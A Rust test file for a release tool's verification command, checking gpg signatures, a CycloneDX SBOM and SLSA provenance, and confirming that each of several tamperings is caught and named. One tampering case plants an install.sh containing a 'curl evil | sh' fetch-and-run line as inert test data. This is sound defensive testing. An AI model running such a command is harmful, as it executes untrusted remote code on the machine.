//! SBOM, signatures and provenance of a release, checked with real gpg (in a
//! throwaway GNUPGHOME) and CycloneDX's own schema; `verify-release` must
//! catch every tampering and name the file.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

use crate::support::{self, venv_python, Fixture, TempDir, Xtask};

/// A throwaway keyring with two signing keys; its agent is stopped on drop.
pub(crate) struct Keyring {
    home: TempDir,
    pub(crate) keys: Vec<String>,
}

impl Keyring {
    pub(crate) fn new() -> Keyring {
        let home = TempDir::new("gnupg");
        std::fs::set_permissions(
            home.path(),
            std::os::unix::fs::PermissionsExt::from_mode(0o700),
        )
        .unwrap();
        let mut keys = Vec::new();
        for who in [
            "Release Key <release@example.invalid>",
            "Someone Else <other@example.invalid>",
        ] {
            let made = Command::new("gpg")
                .env("GNUPGHOME", home.path())
                .args([
                    "--batch",
                    "--passphrase",
                    "",
                    "--quick-gen-key",
                    who,
                    "ed25519",
                    "sign",
                    "never",
                ])
                .output()
                .unwrap();
            assert!(
                made.status.success(),
                "gpg --quick-gen-key: {}",
                String::from_utf8_lossy(&made.stderr)
            );
            let listed = Command::new("gpg")
                .env("GNUPGHOME", home.path())
                .args(["--batch", "--with-colons", "--fingerprint", who])
                .output()
                .unwrap();
            let text = String::from_utf8(listed.stdout).unwrap();
            keys.push(
                text.lines()
                    .find_map(|l| l.strip_prefix("fpr:"))
                    .unwrap()
                    .trim_matches(':')
                    .to_owned(),
            );
        }
        Keyring { home, keys }
    }

    pub(crate) fn home(&self) -> &Path {
        self.home.path()
    }
}

impl Drop for Keyring {
    fn drop(&mut self) {
        let _ = Command::new("gpgconf")
            .env("GNUPGHOME", self.home.path())
            .args(["--kill", "gpg-agent"])
            .status();
    }
}

/// A signed dry-run release of the fixture; returns its staged directory
/// and what the release printed.
fn signed_release(fixture: &Fixture, keyring: &Keyring) -> (PathBuf, support::Run) {
    let run = Xtask::new(&fixture.root)
        .args(&["release", "--sign-key", &keyring.keys[0]])
        .env("XTASK_PYTHON", venv_python())
        .env("GNUPGHOME", keyring.home())
        .run();
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    (fixture.root.join("target/dist/v0.2.0"), run)
}

fn verify(fixture: &Fixture, keyring: &Keyring, dir: &Path) -> support::Run {
    Xtask::new(&fixture.root)
        .args(&[
            "verify-release",
            &dir.display().to_string(),
            "--key",
            &keyring.keys[0],
        ])
        .env("GNUPGHOME", keyring.home())
        .run()
}

fn copy_dir(from: &Path, to: &Path) {
    let status = Command::new("cp")
        .arg("-r")
        .arg(from)
        .arg(to)
        .status()
        .unwrap();
    assert!(status.success());
}

fn sha256(path: &Path) -> String {
    use sha2::{Digest, Sha256};
    Sha256::digest(std::fs::read(path).unwrap())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

#[test]
fn a_signed_release_verifies_and_its_sbom_is_valid_cyclonedx() {
    let fixture = Fixture::new();
    // A runtime dependency with dependencies of its own (installed in the
    // test venv), one that is not installed, and the extra, which is not
    // a runtime dependency.
    let pyproject = fixture.read("python/pyproject.toml");
    assert!(pyproject.contains("dependencies = []"));
    fixture.write(
        "python/pyproject.toml",
        &pyproject.replace(
            "dependencies = []",
            r#"dependencies = ["requests>=2", "notinstalled-xyz>=1"]"#,
        ),
    );
    fixture.git(&["commit", "-qam", "feat(python): runtime dependencies"]);
    fixture.git(&["push", "-q", "origin", "main"]);
    let keyring = Keyring::new();
    let (dist, run) = signed_release(&fixture, &keyring);
    for file in [
        "sbom.cdx.json",
        "provenance.intoto.json",
        "sha256sum.txt.asc",
        "provenance.intoto.json.asc",
    ] {
        assert!(dist.join(file).exists(), "{file} is not staged");
    }
    let ok = verify(&fixture, &keyring, &dist);
    assert_eq!(ok.code, 0, "{}\n{}", ok.stdout, ok.stderr);
    assert!(
        ok.stdout
            .contains(": verified sha256sum.txt, 2 signatures, the provenance\n"),
        "{}",
        ok.stdout
    );
    assert!(!ok.stdout.contains("not signed"), "{}", ok.stdout);
    let notes = std::fs::read_to_string(dist.join("release-notes.md")).unwrap();
    assert!(
        notes.contains(&keyring.keys[0]),
        "the notes name the key's fingerprint"
    );
    assert!(notes.contains("gpg --verify sha256sum.txt.asc sha256sum.txt"));

    // CycloneDX's own validator, strict, schema 1.5.
    let validate = Command::new(venv_python())
        .args([
            "-c",
            "import sys; from cyclonedx.validation.json import JsonStrictValidator; from cyclonedx.schema import SchemaVersion; \
             error = JsonStrictValidator(SchemaVersion.V1_5).validate_str(open(sys.argv[1]).read()); print(error or 'valid'); sys.exit(1 if error else 0)",
        ])
        .arg(dist.join("sbom.cdx.json"))
        .output()
        .unwrap();
    assert!(
        validate.status.success(),
        "{}{}",
        String::from_utf8_lossy(&validate.stdout),
        String::from_utf8_lossy(&validate.stderr)
    );

    // Every asset is a component, with its true hash; the crates have purls.
    let sbom: Value =
        serde_json::from_str(&std::fs::read_to_string(dist.join("sbom.cdx.json")).unwrap())
            .unwrap();
    let components = sbom["components"].as_array().unwrap();
    let sums = std::fs::read_to_string(dist.join("sha256sum.txt")).unwrap();
    for line in sums.lines().filter(|l| !l.ends_with("sbom.cdx.json")) {
        let (hash, name) = line.split_once("  ").unwrap();
        assert_eq!(sha256(&dist.join(name)), hash);
        assert!(
            components.iter().any(|c| c["hashes"][0]["content"] == hash),
            "{name} ({hash}) is not in the SBOM"
        );
    }
    // The xtask is the tool that made the release, not part of the product:
    // its crates are not components, it is named in metadata.tools.
    assert!(
        !components.iter().any(|c| c["purl"]
            .as_str()
            .is_some_and(|p| p.starts_with("pkg:cargo/"))),
        "the xtask's crates are not the product"
    );
    assert_eq!(
        sbom["metadata"]["tools"]["components"][0]["name"],
        "cargo-xtask"
    );
    assert!(components.iter().any(|c| c["purl"]
        .as_str()
        .is_some_and(|p| p.starts_with("pkg:pypi/tcn-vae@0.2.0"))));

    // The runtime dependencies as the build venv resolves them: pinned to
    // what is installed, transitively, in a graph from the wheel.
    let installed = |name: &str| {
        let out = Command::new(venv_python())
            .args([
                "-c",
                "import sys, importlib.metadata as m; print(m.version(sys.argv[1]))",
                name,
            ])
            .output()
            .unwrap();
        String::from_utf8(out.stdout).unwrap().trim().to_owned()
    };
    for name in ["requests", "urllib3", "idna"] {
        let purl = format!("pkg:pypi/{name}@{}", installed(name));
        assert!(
            components.iter().any(|c| c["purl"] == purl.as_str()),
            "{purl} is not in the SBOM"
        );
    }
    assert!(
        !components.iter().any(|c| c["name"] == "torch"),
        "an extra is not a runtime dependency"
    );
    let unresolved = components
        .iter()
        .find(|c| c["name"] == "notinstalled-xyz")
        .expect("an uninstalled requirement is still listed");
    assert!(unresolved.get("version").is_none() && unresolved.get("purl").is_none());
    let wheel_ref = components.iter().find(|c| c["name"] == "tcn-vae").unwrap()["bom-ref"].clone();
    let graph = sbom["dependencies"].as_array().unwrap();
    let from_wheel = graph.iter().find(|d| d["ref"] == wheel_ref).unwrap();
    assert!(from_wheel["dependsOn"]
        .as_array()
        .unwrap()
        .iter()
        .any(|r| r == &Value::from(format!("pkg:pypi/requests@{}", installed("requests")))));
    assert!(
        run.stdout.contains("notinstalled-xyz>=1") && run.stdout.contains("fix: install"),
        "the release says what the SBOM could not pin: {}",
        run.stdout
    );
    let provenance: Value = serde_json::from_str(
        &std::fs::read_to_string(dist.join("provenance.intoto.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(
        provenance["predicateType"],
        "https://slsa.dev/provenance/v1"
    );
    // The tool's build type, never this example repository's name.
    assert_eq!(
        provenance["predicate"]["buildDefinition"]["buildType"],
        "urn:cargo-xtask:release:v1"
    );
    // A dry run has no release commit: the provenance names none rather
    // than the commit the plan started from, and says what it will be.
    let source = &provenance["predicate"]["buildDefinition"]["resolvedDependencies"][0];
    assert_eq!(source["digest"], serde_json::json!({}), "{source}");
    assert_eq!(
        source["annotations"]["xtask:commit"],
        format!(
            "not made yet (dry run): the release commit will be a child of {}",
            fixture.git(&["rev-parse", "HEAD"])
        ),
        "{source}"
    );
}

#[test]
fn every_tampering_is_caught_and_named() {
    let fixture = Fixture::new();
    let keyring = Keyring::new();
    let (dist, _) = signed_release(&fixture, &keyring);
    let scratch = TempDir::new("tamper");
    let case = |name: &str, tamper: &dyn Fn(&Path), expected: &[&str]| {
        let dir = scratch.path().join(name);
        copy_dir(&dist, &dir);
        tamper(&dir);
        let run = verify(&fixture, &keyring, &dir);
        assert_eq!(
            run.code, 1,
            "{name}: tampering went unnoticed:\n{}",
            run.stdout
        );
        for needle in expected {
            assert!(
                run.stderr.contains(needle),
                "{name}: no {needle:?} in:\n{}",
                run.stderr
            );
        }
    };
    case(
        "asset",
        &|dir| {
            let wheel = dir.join("tcn_vae-0.2.0-py3-none-any.whl");
            let mut bytes = std::fs::read(&wheel).unwrap();
            bytes.push(0);
            std::fs::write(&wheel, bytes).unwrap();
        },
        &[
            "tcn_vae-0.2.0-py3-none-any.whl: FAILED",
            "tcn_vae-0.2.0-py3-none-any.whl: sha256",
        ],
    );
    case(
        "checksums",
        &|dir| {
            let sums = dir.join("sha256sum.txt");
            let text = std::fs::read_to_string(&sums).unwrap();
            let first = &text[..64];
            std::fs::write(&sums, text.replacen(first, &"0".repeat(64), 1)).unwrap();
        },
        &[
            "sha256sum.txt.asc: the signature over",
            "sha256sum.txt does not verify",
        ],
    );
    case(
        "wrong-key",
        &|dir| {
            for file in ["sha256sum.txt", "provenance.intoto.json"] {
                let signed = Command::new("gpg")
                    .env("GNUPGHOME", keyring.home())
                    .args([
                        "--batch",
                        "--yes",
                        "--local-user",
                        &keyring.keys[1],
                        "--armor",
                        "--detach-sign",
                        "--output",
                    ])
                    .arg(dir.join(format!("{file}.asc")))
                    .arg(dir.join(file))
                    .status()
                    .unwrap();
                assert!(signed.success());
            }
        },
        &["sha256sum.txt.asc: signed by", "not by the release key"],
    );
    case(
        "provenance",
        &|dir| {
            let path = dir.join("provenance.intoto.json");
            let text = std::fs::read_to_string(&path).unwrap();
            let digest = text.split("\"sha256\": \"").nth(1).unwrap()[..64].to_owned();
            std::fs::write(&path, text.replacen(&digest, &"f".repeat(64), 1)).unwrap();
        },
        &[
            "provenance.intoto.json.asc: the signature over",
            "differs from the provenance",
        ],
    );
    case(
        "added-file",
        &|dir| std::fs::write(dir.join("install.sh"), "curl evil | sh\n").unwrap(),
        &["install.sh: not part of the release"],
    );
    case(
        "manifest",
        &|dir| {
            let path = dir.join("manifest.json");
            let text = std::fs::read_to_string(&path).unwrap();
            std::fs::write(&path, text.replace("\"0.2.0\"", "\"0.2.1\"")).unwrap();
        },
        &["manifest.json: sha256"],
    );
    case(
        "placeholder-hef",
        &|dir| std::fs::write(dir.join("tcn_encoder.hef"), "{\"placeholder\": true}").unwrap(),
        &["tcn_encoder.hef: not a HEF"],
    );
}

#[test]
fn with_sign_assets_every_asset_has_a_signature_that_verifies() {
    let fixture = Fixture::new();
    let manifest = fixture.read("Cargo.toml").replace(
        "tag-name = \"v{version}\"",
        "tag-name = \"v{version}\"\nsign-assets = true",
    );
    fixture.write("Cargo.toml", &manifest);
    fixture.git(&["commit", "--quiet", "-am", "feat: sign every asset"]);
    let keyring = Keyring::new();
    let (dist, _) = signed_release(&fixture, &keyring);
    let wheel = dist.join("tcn_vae-0.2.0-py3-none-any.whl");
    assert!(
        PathBuf::from(format!("{}.asc", wheel.display())).exists(),
        "the wheel is not signed"
    );
    assert!(dist.join("sbom.cdx.json.asc").exists() && dist.join("manifest.json.asc").exists());
    let ok = verify(&fixture, &keyring, &dist);
    assert_eq!(ok.code, 0, "{}", ok.stderr);

    let mut bytes = std::fs::read(&wheel).unwrap();
    bytes[100] ^= 1;
    std::fs::write(&wheel, bytes).unwrap();
    let bad = verify(&fixture, &keyring, &dist);
    assert_eq!(bad.code, 1);
    assert!(
        bad.stderr
            .contains("tcn_vae-0.2.0-py3-none-any.whl.asc: the signature over"),
        "{}",
        bad.stderr
    );
}

/// A release directory without its provenance (or with one that is not
/// JSON) does not verify: nothing would trace its files to their build.
#[test]
fn a_missing_or_unreadable_provenance_fails_verification() {
    let fixture = Fixture::new();
    let keyring = Keyring::new();
    let (dist, _) = signed_release(&fixture, &keyring);
    let provenance = dist.join("provenance.intoto.json");
    std::fs::write(&provenance, "not json").unwrap();
    let run = verify(&fixture, &keyring, &dist);
    assert_eq!(run.code, 1, "{}", run.stdout);
    assert!(
        run.stderr.contains("provenance.intoto.json: not JSON"),
        "{}",
        run.stderr
    );
    std::fs::remove_file(&provenance).unwrap();
    let _ = std::fs::remove_file(dist.join("provenance.intoto.json.asc"));
    let run = verify(&fixture, &keyring, &dist);
    assert_eq!(run.code, 1, "{}", run.stdout);
    assert!(
        run.stderr.contains("provenance.intoto.json: cannot read"),
        "{}",
        run.stderr
    );
}
